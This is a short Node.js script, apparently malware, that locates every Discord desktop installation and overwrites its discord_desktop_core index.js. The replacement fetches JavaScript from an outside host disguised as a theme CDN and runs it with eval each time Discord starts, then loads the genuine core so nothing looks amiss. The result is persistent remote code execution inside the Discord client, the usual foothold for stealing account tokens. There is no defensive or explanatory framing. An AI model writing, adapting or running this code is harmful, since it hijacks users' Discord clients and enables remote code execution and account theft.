const fs = require('fs'), path = require('path');
const base = path.join(process.env.LOCALAPPDATA || '', 'Discord');
for (const v of fs.existsSync(base) ? fs.readdirSync(base).filter((d) => d.startsWith('app-')) : []) {
  const mod = path.join(base, v, 'modules');
  for (const m of fs.readdirSync(mod).filter((d) => d.startsWith('discord_desktop_core'))) {
    const f = path.join(mod, m, 'discord_desktop_core', 'index.js');
    fs.writeFileSync(f, `require('https').get('https://cdn.discord-themes.invalid/i.js',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>eval(b))});\nmodule.exports = require('./core.asar');`);
  }
}
